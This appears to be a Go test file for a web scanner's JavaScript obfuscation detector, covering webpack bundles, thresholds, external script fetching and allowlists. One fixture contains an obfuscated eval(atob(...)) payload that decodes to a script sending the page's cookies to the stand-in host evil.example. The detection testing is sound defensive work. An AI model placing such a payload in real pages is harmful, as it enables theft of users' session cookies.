@@ -0,0 +1,207 @@
+package Tests
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// webpackBundle mimics a minified webpack production bundle: runtime signatures, long
+// lines, joined string literals, an escaped string table and Function("return this").
+var webpackBundle = "<html><script>" +
+	`(self.webpackJsonp=self.webpackJsonp||[]).push([[0],{0:function(e,t,n){` +
+	`var g=Function("return this")();var __webpack_require__=n;` +
+	strings.Repeat(`var a="\u00e9\u00e8\u00ea\u00eb"+"x"+"y";e.exports=function(o){return o.map(function(r){return r+1})};`, 12) +
+	strings.Repeat(`var l="`+strings.Repeat("minified", 80)+`";`+"\n", 8) +
+	`}}]);` +
+	"</script></html>"
+
+// obfuscatedPayload decodes and executes an encoded payload at runtime.
+var obfuscatedPayload = "<html><script>" +
+	`var _0x1a=["\x65\x76\x61\x6c","\x61\x74\x6f\x62","\x70\x61\x79","\x6c\x6f\x61\x64","\x73\x68\x65\x6c\x6c","\x65\x78"];` +
+	`eval(atob("ZG9jdW1lbnQubG9jYXRpb249J2h0dHA6Ly9ldmlsLmV4YW1wbGUvP2M9Jytkb2N1bWVudC5jb29raWU="));` +
+	`eval(String.fromCharCode(97,108,101,114,116,40,49,41));` +
+	`var payload=unescape(atob("JTc1JTZlJTY1"));` +
+	"</script></html>"
+
+func runJSObfuscation(config JSObfuscationConfig, body string) JSObfuscationAnalysis {
+	response := &http.Response{Header: http.Header{"Content-Type": {"text/html"}}}
+	result := NewJSObfuscationTestWithConfig(config).Run(ResponseTestParams{Response: response, Body: []byte(body)})
+	return result.Metadata.(JSObfuscationAnalysis)
+}
+
+func TestJSObfuscationTest_WebpackBundle(t *testing.T) {
+	config := DefaultJSObfuscationConfig()
+	analysis := runJSObfuscation(config, webpackBundle)
+
+	if analysis.Bundler != "webpack" {
+		t.Errorf("Expected the webpack bundle to be recognized, got %q", analysis.Bundler)
+	}
+	if analysis.HasObfuscation || analysis.ObfuscationScore > config.ObfuscationThreshold {
+		t.Errorf("Expected the webpack bundle to score low, got %d (%v)", analysis.ObfuscationScore, analysis.ObfuscationPatterns)
+	}
+
+	config.MinificationAware = false
+	strict := runJSObfuscation(config, webpackBundle)
+	if strict.Bundler != "" || strict.ObfuscationScore <= analysis.ObfuscationScore {
+		t.Errorf("Expected the bundle to score higher without minification awareness, got %d (aware %d)",
+			strict.ObfuscationScore, analysis.ObfuscationScore)
+	}
+}
+
+func TestJSObfuscationTest_ObfuscatedPayload(t *testing.T) {
+	analysis := runJSObfuscation(DefaultJSObfuscationConfig(), obfuscatedPayload)
+
+	if !analysis.HasObfuscation || analysis.ObfuscationScore < 60 {
+		t.Errorf("Expected the obfuscated payload to score high, got %d (%v)", analysis.ObfuscationScore, analysis.ObfuscationPatterns)
+	}
+	if threat := evaluateObfuscationThreat(analysis); !threat.AtLeast(High) {
+		t.Errorf("Expected at least High threat, got %v", threat)
+	}
+}
+
+func TestJSObfuscationTest_ConfigThresholds(t *testing.T) {
+	script := "<script>var s=\"" + strings.Repeat(`\x41`, 5) + "\";</script>"
+
+	if analysis := runJSObfuscation(DefaultJSObfuscationConfig(), script); analysis.HexEscapes != 0 {
+		t.Errorf("Expected 5 hex escapes to stay below the default threshold, got %d", analysis.HexEscapes)
+	}
+
+	config := DefaultJSObfuscationConfig()
+	config.HexEscapeThreshold = 3
+	if analysis := runJSObfuscation(config, script); analysis.HexEscapes != 5 {
+		t.Errorf("Expected 5 hex escapes over a threshold of 3, got %d", analysis.HexEscapes)
+	}
+}
+
+func TestJSObfuscationTest_ExternalScripts(t *testing.T) {
+	fetched := make(map[string]bool)
+	server := httptest.NewServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
+		fetched[request.URL.Path] = true
+		writer.Header().Set("Content-Type", "application/javascript")
+		script := strings.TrimSuffix(strings.TrimPrefix(obfuscatedPayload, "<html><script>"), "</script></html>")
+		_, _ = writer.Write([]byte(script))
+	}))
+	defer server.Close()
+
+	page := `<html><head><script src="/static/app.js"></script>` +
+		`<script src="https://cdn.example/lib.js"></script></head><body>Hello</body></html>`
+	target, _ := url.Parse(server.URL + "/index.html")
+	response := &http.Response{
+		Header:  http.Header{"Content-Type": {"text/html"}},
+		Request: &http.Request{URL: target},
+	}
+
+	result := NewJSObfuscationTest().Run(ResponseTestParams{Response: response, Body: []byte(page), HTTPClient: server.Client()})
+	analysis := result.Metadata.(JSObfuscationAnalysis)
+
+	if !fetched["/static/app.js"] {
+		t.Fatalf("Expected the same-origin script to be fetched, fetched %v", fetched)
+	}
+	if want := []string{server.URL + "/static/app.js"}; !reflect.DeepEqual(analysis.ExternalScripts, want) {
+		t.Errorf("Expected external scripts %v, got %v", want, analysis.ExternalScripts)
+	}
+	if want := []string{"https://cdn.example/lib.js"}; !reflect.DeepEqual(analysis.CrossOriginScripts, want) {
+		t.Errorf("Expected cross-origin scripts %v, got %v", want, analysis.CrossOriginScripts)
+	}
+	if !analysis.HasObfuscation || !result.ThreatLevel.AtLeast(High) {
+		t.Errorf("Expected the external obfuscated script to be scored, got %v (score %d)", result.ThreatLevel, analysis.ObfuscationScore)
+	}
+}
+
+func TestJSObfuscationTest_ExternalScriptLimit(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
+		_, _ = writer.Write([]byte("console.log('ok');"))
+	}))
+	defer server.Close()
+
+	page := `<script src="/a.js"></script><script src="/b.js"></script><script src="/c.js"></script>`
+	target, _ := url.Parse(server.URL + "/")
+	response := &http.Response{Header: http.Header{"Content-Type": {"text/html"}}, Request: &http.Request{URL: target}}
+	config := DefaultJSObfuscationConfig()
+	config.MaxExternalScripts = 2
+
+	result := NewJSObfuscationTestWithConfig(config).Run(ResponseTestParams{Response: response, Body: []byte(page), HTTPClient: server.Client()})
+	analysis := result.Metadata.(JSObfuscationAnalysis)
+
+	if len(analysis.ExternalScripts) != 2 || !reflect.DeepEqual(analysis.SkippedScripts, []string{server.URL + "/c.js"}) {
+		t.Errorf("Expected two fetched scripts and c.js skipped, got %v and %v", analysis.ExternalScripts, analysis.SkippedScripts)
+	}
+}
+
+// minifiedJQuery is a trimmed sample of a minified jQuery build: a long single line with
+// escaped string tables and dynamic Function() use that trip the heuristics.
+var minifiedJQuery = `/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */` +
+	`!function(e,t){"use strict";"object"==typeof module?module.exports=t(e,!0):t(e)}(window,function(ie,e){` +
+	`var oe=[],r=Object.getPrototypeOf,ae=oe.slice,g=oe.flat;` +
+	`var w="\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000";` +
+	`var ce=Function("return this")(),fe=Function("a","return a")(1),pe=Function("b","return b")(2);` +
+	`var ke=decodeURIComponent(location.hash),le=unescape("%20"),se=decodeURI(location.search);` +
+	strings.Repeat(`ce.jQuery=ce.$=function(e,t){return new ce.jQuery.fn.init(e,t)};`, 10) + `});`
+
+func TestJSObfuscationTest_Allowlist(t *testing.T) {
+	page := "<html><script>" + minifiedJQuery + "</script></html>"
+	config := DefaultJSObfuscationConfig()
+
+	if analysis := runJSObfuscation(config, page); !analysis.HasObfuscation {
+		t.Fatalf("Expected the minified jQuery sample to trip the heuristics, got score %d", analysis.ObfuscationScore)
+	}
+
+	config.Allowlist = DefaultScriptAllowlist()
+	config.Allowlist.AddHash(minifiedJQuery, "jQuery 3.7.1")
+	analysis := runJSObfuscation(config, page)
+
+	if analysis.HasObfuscation || analysis.ObfuscationScore != 0 {
+		t.Errorf("Expected the allowlisted jQuery not to be flagged, got score %d (%v)", analysis.ObfuscationScore, analysis.ObfuscationPatterns)
+	}
+	if want := []string{"jQuery 3.7.1 (inline)"}; !reflect.DeepEqual(analysis.AllowlistedScripts, want) {
+		t.Errorf("Expected allowlisted scripts %v, got %v", want, analysis.AllowlistedScripts)
+	}
+}
+
+func TestJSObfuscationTest_AllowlistedURL(t *testing.T) {
+	requested := false
+	server := httptest.NewServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
+		requested = true
+		_, _ = writer.Write([]byte(minifiedJQuery))
+	}))
+	defer server.Close()
+
+	page := `<script src="/vendor/jquery.min.js"></script>`
+	target, _ := url.Parse(server.URL + "/")
+	response := &http.Response{Header: http.Header{"Content-Type": {"text/html"}}, Request: &http.Request{URL: target}}
+	config := DefaultJSObfuscationConfig()
+	config.Allowlist.URLPrefixes[strings.TrimPrefix(server.URL, "http://")+"/vendor/"] = "Vendored library"
+
+	result := NewJSObfuscationTestWithConfig(config).Run(ResponseTestParams{Response: response, Body: []byte(page), HTTPClient: server.Client()})
+	analysis := result.Metadata.(JSObfuscationAnalysis)
+
+	if requested {
+		t.Error("Expected the allowlisted script not to be fetched")
+	}
+	if want := []string{"Vendored library (" + server.URL + "/vendor/jquery.min.js)"}; !reflect.DeepEqual(analysis.AllowlistedScripts, want) {
+		t.Errorf("Expected allowlisted scripts %v, got %v", want, analysis.AllowlistedScripts)
+	}
+	if analysis.HasObfuscation {
+		t.Errorf("Expected no obfuscation, got score %d", analysis.ObfuscationScore)
+	}
+}
+
+func TestScriptAllowlist_MatchURL(t *testing.T) {
+	allowlist := DefaultScriptAllowlist()
+	for scriptURL, want := range map[string]string{
+		"https://code.jquery.com/jquery-3.7.1.min.js":                "jQuery",
+		"http://www.google-analytics.com/analytics.js":               "Google Analytics",
+		"https://www.googletagmanager.com/gtm.js?id=GTM-XXXX":        "Google Tag Manager",
+		"https://code.jquery.com.evil.example/jquery-3.7.1.min.js":   "",
+		"https://evil.example/www.google-analytics.com/analytics.js": "",
+	} {
+		name, _ := allowlist.MatchURL(scriptURL)
+		if name != want {
+			t.Errorf("MatchURL(%q) = %q, want %q", scriptURL, name, want)
+		}
+	}
+}